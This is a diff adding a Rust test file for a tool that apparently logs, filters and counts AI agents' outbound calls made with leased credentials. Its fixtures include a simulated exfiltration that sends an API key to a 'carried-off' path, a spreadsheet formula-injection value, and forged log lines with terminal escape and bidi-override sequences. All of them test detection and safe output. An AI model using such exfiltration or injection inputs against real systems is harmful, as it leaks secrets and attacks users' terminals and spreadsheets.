@@ -1,0 +1,320 @@
+//! Calls are found, told and counted: what the log has, and nothing that an index or a log says to a terminal instead.
+
+use std::fs::{self, OpenOptions};
+use std::io::Write;
+use std::os::unix::fs::MetadataExt;
+use std::path::PathBuf;
+
+use serde_json::Value;
+
+use crate::credentials::leased;
+use crate::harness::{Exeat, TokenEndpoint, Upstream};
+
+/// A call with a credential that leaked into its answer, one that its upstream failed, a refusal and an alert.
+fn with_calls() -> (Exeat, Upstream, TokenEndpoint) {
+    let (upstream, issuer) = (Upstream::start(), TokenEndpoint::start(300));
+    let exeat = leased(&upstream, &issuer).allow("www.example.com", &upstream);
+    let script = "curl -sS -H \"Authorization: Bearer $API_KEY\" 'https://api.example.com/leak/plain?q==1%2B1'
+        curl -sS -X POST -d x https://www.example.com/status/503; curl -sS https://nowhere.example.net/
+        curl -sS -H \"X-Key: $API_KEY\" https://www.example.com/carried-off; true";
+    exeat.sh(script).ok();
+    (exeat, upstream, issuer)
+}
+
+fn list(exeat: &Exeat, arguments: &[&str]) -> Vec<String> {
+    let out = exeat.exeat(&[&["calls"], arguments].concat()).finish().ok().stdout;
+    out.lines().skip(1).map(ToOwned::to_owned).collect()
+}
+
+/// The id of the one call that these find.
+fn id(exeat: &Exeat, arguments: &[&str]) -> String {
+    let rows = list(exeat, arguments);
+    assert_eq!(rows.len(), 1, "{arguments:?}: {rows:#?}");
+    rows[0].split(' ').next().unwrap().to_owned()
+}
+
+fn worker(exeat: &Exeat) -> PathBuf {
+    fs::read_dir(exeat.state().join("workers")).unwrap().next().unwrap().unwrap().path()
+}
+
+#[test]
+fn calls_are_found_by_whatever_is_known_of_them() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let all = list(&exeat, &[]);
+    assert_eq!(all.len(), 4, "{all:#?}");
+    let lease = exeat.log().calls()[0].credential.as_ref().unwrap().lease.clone();
+    let worker = worker(&exeat).file_name().unwrap().to_str().unwrap().to_owned();
+    for same in [["--worker", &worker[..]], ["--worker", &worker[28..]], ["--since", "1h"]] {
+        assert_eq!(list(&exeat, &same), all, "{same:?}");
+    }
+    for (arguments, path) in [
+        (&["--method", "post"][..], "/status/503"),
+        (&["--path", "/leak/*"], "/leak/plain"),
+        (&["--status", "5xx"], "/status/503"),
+        (&["--status", "503", "--status", "599"], "/status/503"),
+        (&["--host", "*.example.net"], "nowhere"),
+        (&["--host", "api.example.com", "--host", "a.b"], "/leak/plain"),
+        (&["--credential", "api"], "/leak/plain"),
+        (&["--lease", &lease], "/leak/plain"),
+        (&["--rule", "allow 2"], "/status/503"),
+        (&["--rule", "allow #1"], "/leak/plain"),
+        (&["--flagged", "--refused"], "/carried-off"),
+        (&["--flagged", "--status", "200"], "/leak/plain"),
+        (&["--limit", "1"], "/carried-off"),
+    ] {
+        let found = list(&exeat, arguments);
+        assert!(found.len() == 1 && found[0].contains(path), "{arguments:?}: {found:#?}");
+    }
+    assert!(list(&exeat, &["--until", "1h"]).is_empty() && list(&exeat, &["--tool", "*"]).is_empty());
+    let newest = exeat.exeat(&["calls", "--limit", "3"]).finish().ok();
+    assert!(newest.stderr.contains("the newest 3 of 4") && newest.stderr.contains("--limit all"), "{newest:#?}");
+    assert_eq!(exeat.exeat(&["calls", "--limit", "all"]).finish().ok().stderr, "");
+    for wrong in
+        [["--status", "ok"], ["--path", "repos"], ["--limit", "0"], ["--rule", "7"], ["--worker", "x"], ["--host", ""]]
+    {
+        let run = exeat.exeat(&[&["calls"], &wrong[..]].concat()).finish();
+        assert!(run.code != Some(0) && run.stderr.contains(wrong[0]), "{run:#?}");
+    }
+}
+
+#[test]
+fn one_call_is_told_from_who_made_it_to_what_its_record_is_worth() {
+    let (exeat, upstream, _issuer) = with_calls();
+    let found = id(&exeat, &["--credential", "api"]);
+    let story = exeat.exeat(&["calls", "show", &found]).finish().ok().stdout;
+    let log = exeat.log();
+    let (start, end) = (log.calls()[0], log.ends()[0]);
+    let lease = &start.credential.as_ref().unwrap().lease;
+    let policy = exeat.policy_file();
+    for part in [
+        &found,
+        "agent       bot",
+        &log.start().identity,
+        &format!("allowed by  {}, {}", start.rule, policy.display()),
+        "| [[allow]]",
+        "| to = \"api.example.com\"",
+        "api, in header",
+        lease,
+        "revoked 2",
+        "done, status 200",
+        &format!("{:.1} ms in all", end.total_ms),
+        &upstream.dial(),
+        "TLSv1_3",
+        "a credential in the answer, once",
+        "api.example.com asked for (A",
+        "follows from the one before it",
+    ] {
+        assert!(story.contains(part), "{part}: {story}");
+    }
+    assert!(!story.contains("\"www.example.com\""), "not the next rule's lines: {story}");
+    let json: Value = exeat.exeat(&["calls", "show", &found, "--json"]).finish().ok().json();
+    assert_eq!(json["records"][0]["record"]["path"], "/leak/plain");
+    assert_eq!(json["leases"][0]["lease"], Value::from(lease.clone()));
+    assert_eq!(json["chain"]["broken"], Value::Null);
+    // The long form, and the number of its other record, mean the same call.
+    let long = format!("{}/{}", json["worker"].as_str().unwrap(), json["records"][1]["record"]["seq"]);
+    assert_eq!(exeat.exeat(&["calls", "show", &long]).finish().ok().stdout, story);
+
+    let refusal = exeat.exeat(&["calls", "show", &id(&exeat, &["--host", "nowhere.example.net"])]).finish().ok().stdout;
+    assert!(refusal.contains("host-not-listed") && refusal.contains("answered    403"), "{refusal}");
+    let alert = exeat.exeat(&["calls", "show", &id(&exeat, &["--flagged", "--refused"])]).finish().ok().stdout;
+    assert!(alert.contains("ALERT"), "{alert}");
+
+    // What judged is not what is there any more.
+    let mut file = OpenOptions::new().append(true).open(&policy).unwrap();
+    file.write_all(b"\n# edited\n").unwrap();
+    let later = exeat.exeat(&["calls", "show", &found]).finish().ok().stdout;
+    assert!(later.contains("has changed since") && !later.contains("| [[allow]]"), "{later}");
+    // Nor is the log.
+    let segment = worker(&exeat).join("calls/000001.jsonl");
+    let changed = fs::read_to_string(&segment).unwrap().replacen("spiffe://", "spiffy://", 1);
+    fs::write(&segment, changed).unwrap();
+    let run = exeat.exeat(&["calls", "show", &found]).finish();
+    assert!(run.code == Some(1) && run.stdout.contains("CHANGED     record 2 does not follow"), "{run:#?}");
+    let none = exeat.exeat(&["calls", "show", "ffffffff/1"]).finish();
+    assert!(none.code != Some(0) && none.stderr.contains("ffffffff"), "{none:#?}");
+}
+
+#[test]
+fn values_are_cells_and_no_formulas() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let csv = exeat.exeat(&["calls", "--csv"]).finish().ok().stdout;
+    assert!(csv.starts_with("id,time,agent,result,status,method,to,path,query,"), "{csv}");
+    assert_eq!(csv.matches("\r\n").count(), 5, "{csv}");
+    assert!(csv.contains(",/leak/plain,q==1%2B1,"), "{csv}");
+    let program = "import csv, sys; print(*[len(row) for row in csv.reader(sys.stdin)])";
+    fs::write(exeat.path("calls.csv"), csv).unwrap();
+    let mut reader = std::process::Command::new("python3");
+    let file = fs::File::open(exeat.path("calls.csv")).unwrap();
+    let read = reader.args(["-c", program]).stdin(file).output().unwrap();
+    assert_eq!(String::from_utf8(read.stdout).unwrap(), "21 21 21 21 21\n");
+    exeat.sh("curl -sS 'https://www.example.com/echo?=HYPERLINK(1)'").ok();
+    let csv = exeat.exeat(&["calls", "--csv", "--limit", "1"]).finish().ok().stdout;
+    assert!(csv.contains(",'=HYPERLINK(1),"), "{csv}");
+}
+
+#[test]
+fn an_index_that_is_lost_or_damaged_changes_no_answer() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let all = list(&exeat, &[]);
+    let directory = exeat.state().join("index").join(worker(&exeat).file_name().unwrap());
+    let sheet = directory.join("000001.sheet");
+    assert_eq!(fs::metadata(&directory).unwrap().mode() & 0o777, 0o700);
+    assert_eq!(fs::metadata(&sheet).unwrap().mode() & 0o777, 0o600);
+    let good = fs::read(&sheet).unwrap();
+    for harm in 0..6 {
+        match harm {
+            0 => fs::remove_dir_all(exeat.state().join("index")).unwrap(),
+            1 => fs::write(&sheet, &good[..good.len() / 2]).unwrap(),
+            2 => fs::write(&sheet, []).unwrap(),
+            3 => fs::write(&sheet, vec![0xff; 4096]).unwrap(),
+            4 => {
+                let mut bad = good.clone();
+                let last = bad.len() - 1;
+                bad[last] ^= 1;
+                fs::write(&sheet, bad).unwrap();
+            }
+            _ => {
+                exeat.sh("curl -sS https://elsewhere.example.net/").ok();
+                fs::write(&sheet, &good).unwrap();
+                assert_eq!(list(&exeat, &[]).len(), 5);
+                continue;
+            }
+        }
+        assert_eq!(list(&exeat, &[]), all, "harm {harm}");
+    }
+    // It cannot be kept: it is made each time.
+    fs::remove_dir_all(exeat.state().join("index")).unwrap();
+    fs::write(exeat.state().join("index"), "in the way").unwrap();
+    assert_eq!(list(&exeat, &["--host", "api.example.com"]).len(), 1);
+}
+
+#[test]
+fn who_does_not_own_the_logs_keeps_the_index_elsewhere() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let cache = exeat.path("cache");
+    let exeat = exeat.environment("XDG_CACHE_HOME", cache.to_str().unwrap());
+    if rustix::process::geteuid().is_root() {
+        std::os::unix::fs::chown(exeat.state(), Some(65534), None).unwrap();
+        assert_eq!(list(&exeat, &[]).len(), 4);
+        assert!(cache.join("exeat/index").is_dir() && !exeat.state().join("index").exists());
+    } else {
+        assert_eq!(list(&exeat, &[]).len(), 4);
+        assert!(!cache.exists() && exeat.state().join("index").is_dir());
+    }
+}
+
+#[test]
+fn calls_are_counted_by_agent_and_host() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let shown = exeat.exeat(&["stats"]).finish().ok().stdout;
+    assert!(shown.starts_with("2 calls, 2 refused, 1 errors\n") && shown.contains("AGENT"), "{shown}");
+    assert!(shown.is_ascii(), "nothing is drawn where nobody looks: {shown}");
+    let json = exeat.exeat(&["stats", "--json"]).finish().ok().json();
+    let group = |to: &str| json["groups"].as_array().unwrap().iter().find(|group| group["to"] == to).unwrap().clone();
+    let www = group("www.example.com:443");
+    assert_eq!(
+        (&www["calls"], &www["refused"], &www["errors"], &www["sent"]),
+        (&1.into(), &1.into(), &1.into(), &1.into())
+    );
+    assert!(www["total_ms"]["p99"].as_f64().unwrap() > 0.0);
+    assert_eq!(group("nowhere.example.net:443")["refused"], 1);
+    assert_eq!(json["refusals"].as_array().unwrap().len(), 2);
+    let time = &json["over_time"];
+    let count = |which: &str| time[which].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).sum::<u64>();
+    assert_eq!((count("calls"), count("refused")), (2, 2));
+    let one = exeat.exeat(&["stats", "--json", "--status", "5xx"]).finish().ok().json();
+    assert_eq!((&one["calls"], &one["groups"].as_array().unwrap().len()), (&1.into(), &1));
+    let none = Exeat::new().exeat(&["stats"]).finish().ok().stdout;
+    assert_eq!(none, "0 calls, 0 refused, 0 errors\n");
+}
+
+/// What a terminal of this width gets.
+fn in_a_terminal(exeat: &Exeat, columns: usize, variables: &str, arguments: &str) -> String {
+    let program = "import os, pty, sys
+child, terminal = pty.fork()
+if child == 0:
+    os.execvp('sh', ['sh', '-c', sys.argv[1]])
+seen = b''
+while True:
+    try:
+        piece = os.read(terminal, 65536)
+    except OSError:
+        break
+    if not piece:
+        break
+    seen += piece
+sys.stdout.buffer.write(seen)
+sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))";
+    let script = format!(
+        "stty cols {columns}; {variables} {} --state {} {arguments}",
+        crate::harness::binary(),
+        exeat.state().display()
+    );
+    let run = std::process::Command::new("python3").args(["-c", program, &script]).output().unwrap();
+    String::from_utf8(run.stdout).unwrap().replace("\r\n", "\n")
+}
+
+#[test]
+fn a_terminal_gets_bars_that_fit_and_nothing_that_acts_on_it() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    let plain = "env NO_COLOR=1 TERM=xterm LC_ALL=C.UTF-8";
+    for columns in [50, 80, 130] {
+        let shown = in_a_terminal(&exeat, columns, plain, "stats");
+        assert!(shown.contains('█') && !shown.contains('\u{1b}'), "{shown:?}");
+        let longest = shown.lines().map(|line| line.chars().count()).max().unwrap();
+        assert!(longest <= columns, "{longest} of {columns}: {shown}");
+    }
+    assert!(in_a_terminal(&exeat, 100, "env TERM=xterm LC_ALL=C.UTF-8", "stats").contains("\u{1b}[3"));
+    assert!(in_a_terminal(&exeat, 100, "env NO_COLOR=1 TERM=xterm LC_ALL=C", "stats").is_ascii());
+    // A log that somebody forged, with all that a line of JSON can have in it.
+    let segment = worker(&exeat).join("calls/000001.jsonl");
+    let forged = fs::read_to_string(&segment).unwrap();
+    let last = forged.lines().rfind(|line| line.contains("carried-off")).unwrap();
+    let evil = last.replace("/carried-off", "/\u{9b}2J\\u001b[2J\u{202e}\u{7f}").replace("\"bot\"", "\"b\\u001bot\"");
+    OpenOptions::new().append(true).open(&segment).unwrap().write_all(format!("{evil}\n").as_bytes()).unwrap();
+    let acts = |c: char| (c.is_control() && c != '\n' && c != '\r') || c == '\u{202e}';
+    let id = list(&exeat, &["--limit", "1"])[0].split(' ').next().unwrap().to_owned();
+    for arguments in ["calls", "calls --json", "calls --csv", "stats", "stats --json", &format!("calls show {id}")] {
+        let shown = in_a_terminal(&exeat, 100, plain, arguments);
+        assert!(shown.len() > 100 && !shown.contains(acts), "{arguments}: {shown:?}");
+    }
+}
+
+#[test]
+fn what_is_followed_is_filtered_and_goes_on_with_new_workers() {
+    let upstream = Upstream::start();
+    let exeat = Exeat::new().allow("api.example.com", &upstream);
+    exeat.sh("curl -sS https://early.example.net/").ok();
+    let live = exeat.start(&[
+        "sh",
+        "-c",
+        "curl -sS https://api.example.com/slow?ms=2500; curl -sS https://api.example.com/echo/2",
+    ]);
+    upstream.wait_for(1);
+    let mut following = exeat.exeat(&["calls", "-f"]);
+    let mut refused = exeat.exeat(&["calls", "-f", "--refused", "--host", "*.example.net"]);
+    following.wait_for("early.example.net");
+    assert!(!following.stdout().contains("/slow"), "it is open: {}", following.stdout());
+    following.wait_for("/slow?ms=2500");
+    live.finish().ok();
+    exeat.sh("curl -sS https://api.example.com/echo/3; curl -sS https://late.example.net/").ok();
+    following.wait_for("/echo/3");
+    following.wait_for("late.example.net");
+    refused.wait_for("late.example.net");
+    let (all, some) = (following.stdout(), refused.stdout());
+    assert_eq!((all.lines().count(), some.lines().count()), (6, 3), "{all}\n{some}");
+    assert!(!some.contains("api.example.com"), "{some}");
+}
+
+#[test]
+fn a_log_that_cannot_be_read_hides_no_other() {
+    let (exeat, _upstream, _issuer) = with_calls();
+    exeat.sh("curl -sS https://second.example.net/").ok();
+    let segment = worker(&exeat).join("calls/000001.jsonl");
+    let before = list(&exeat, &[]).len();
+    OpenOptions::new().append(true).open(&segment).unwrap().write_all(b"\x1b[2J no record\n").unwrap();
+    let run = exeat.exeat(&["calls"]).finish();
+    assert_eq!((run.code, run.stdout.lines().count()), (Some(1), before + 1), "{run:#?}");
+    assert!(run.stderr.contains("is left out") && !run.stderr.contains('\u{1b}'), "{run:#?}");
+}
